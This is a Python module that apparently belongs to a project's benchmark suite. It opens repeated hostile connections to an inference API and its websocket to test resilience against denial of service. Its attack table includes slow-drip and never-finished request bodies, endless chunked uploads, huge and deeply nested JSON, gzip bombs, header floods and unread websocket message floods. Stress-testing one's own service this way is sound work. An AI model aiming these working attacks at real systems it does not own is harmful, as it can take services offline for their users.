"""`python -m benchmarks.scenarios.attacks URL NAME`: one hostile client, until it is stopped.

It runs at the lowest priority: a real one has a machine of its own.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import os
import sys
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

from websockets.frames import Frame, Opcode

MB = 2**20
PAUSE_S = 0.02  # how many requests there are in a second is another matter: keys have limits for that
PREDICT = "/api/v1/inference/predict"
UNKNOWN = "00000000-0000-7000-8000-000000000000"

HANDSHAKE = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
}

Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Attacker:
    """Connections to one system.

    Args:
        url: of the system.
    """

    def __init__(self, url: str) -> None:
        parts = urlsplit(url)
        self._host, self._port = parts.hostname or "", parts.port

    async def again_and_again(self, count: int, attack: Callable[[Stream], Awaitable[None]]) -> None:
        """`count` connections at a time, each opened anew when the system ends it."""

        async def one() -> None:
            while True:
                with contextlib.suppress(OSError, asyncio.IncompleteReadError, TimeoutError):
                    stream = await asyncio.open_connection(self._host, self._port)
                    try:
                        await attack(stream)
                    finally:
                        stream[1].transport.abort()
                await asyncio.sleep(0.01)

        await asyncio.gather(*(one() for _ in range(count)))


def head(path: str = PREDICT, method: str = "POST", **headers: object) -> bytes:
    """The head of a request."""
    lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/json"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def whole(body: bytes, **headers: object) -> bytes:
    """A request with its body."""
    return head(Content_Length=len(body), **headers) + body


def frame(data: bytes, opcode: Opcode = Opcode.TEXT) -> bytes:
    """A frame as a client sends it."""
    return Frame(opcode, data).serialize(mask=True)


def envelope(data: bytes) -> bytes:
    """The body of a predict."""
    return b'{"model_name":"lstm64","data":%b}' % data


async def until_closed(stream: Stream) -> None:
    """Take what the system says, until it ends the connection."""
    while await stream[0].read(65536):
        pass


async def drip(stream: Stream) -> None:
    """A body that comes byte by byte."""
    stream[1].write(head(Content_Length=MB))
    while True:
        stream[1].write(b" ")
        await stream[1].drain()
        await asyncio.sleep(1)


async def nearly(stream: Stream) -> None:
    """A large body of which the last byte does not come."""
    stream[1].write(head(Content_Length=4 * MB) + b" " * (4 * MB - 1))
    await until_closed(stream)


async def endless(stream: Stream) -> None:
    """A body without length and without end."""
    stream[1].write(head(Transfer_Encoding="chunked"))
    while True:
        stream[1].write(b"10000\r\n" + b" " * 65536 + b"\r\n")
        await stream[1].drain()


def repeating(request: bytes) -> Callable[[Stream], Awaitable[None]]:
    """The same request again and again, each a little after the one before was answered."""

    async def attack(stream: Stream) -> None:
        while True:
            stream[1].write(request)
            answer = await stream[0].readuntil(b"\r\n\r\n")
            lengths = [line for line in answer.lower().split(b"\r\n") if line.startswith(b"content-length")]
            await stream[0].readexactly(int(lengths[0].partition(b":")[2]) if lengths else 0)
            await asyncio.sleep(PAUSE_S)

    return attack


def flooding(piece: bytes, *, socket: bool = True) -> Callable[[Stream], Awaitable[None]]:
    """Without end, and nothing is read."""

    async def attack(stream: Stream) -> None:
        if socket:
            stream[1].write(head("/api/v1/ws", "GET", **HANDSHAKE))
            await stream[0].readuntil(b"\r\n\r\n")
        while True:
            stream[1].write(piece)
            await stream[1].drain()

    return attack


def _frames(message: bytes, opcode: Opcode = Opcode.TEXT) -> bytes:
    data = frame(message, opcode)
    return data * max(1, 16384 // len(data))


ATTACKS: dict[str, tuple[int, Callable[[Stream], Awaitable[None]]]] = {
    "200 bodies that drip": (200, drip),
    "64 bodies of 4 MB without their last byte": (64, nearly),
    "bodies without end": (4, endless),
    "bodies of 1.3 million lists": (4, repeating(whole(envelope(b"[" + b"[]," * 1_300_000 + b"[]]")))),
    "bodies of 2 million numbers": (4, repeating(whole(envelope(b"[" + b"1," * 2_000_000 + b'"x"]')))),
    "bodies 1,000 deep": (4, repeating(whole(envelope(b"[" * 1000 + b"]" * 1000)))),
    "names of 4 MB": (4, repeating(whole(b'{"model_name":"%b","data":[]}' % (b"x" * 4 * MB)[:-100]))),
    "bodies that are not UTF-8": (4, repeating(whole(b'"' + b"\xff" * 1000 + b'"'))),
    "gzip bombs": (4, repeating(whole(gzip.compress(bytes(100 * MB), 1), Content_Encoding="gzip"))),
    "heads without end": (4, flooding(b"GET / HTTP/1.1\r\n" + b"X-A: a\r\n" * 2000, socket=False)),
    "heads that are none": (4, flooding(b"\xff\xfe" * 4096, socket=False)),
    "pings, nothing read": (4, flooding(_frames(b"", Opcode.PING))),
    "messages, nothing read": (4, flooding(_frames(b'{"ping":1}'))),
    "messages of 1 MB": (4, flooding(frame(b'{"x":"%b"}' % (b"x" * MB)))),
    "subscriptions to nothing": (4, flooding(_frames(b'{"subscribe":{"job_id":"%b"}}' % UNKNOWN.encode()))),
    "answers that nobody reads": (8, flooding(head("/openapi.json", "GET") * 100, socket=False)),
}


def main() -> None:
    """Attack."""
    os.nice(19)
    url, name = sys.argv[1:]
    count, attack = ATTACKS[name]
    asyncio.run(Attacker(url).again_and_again(count, attack))


if __name__ == "__main__":
    main()
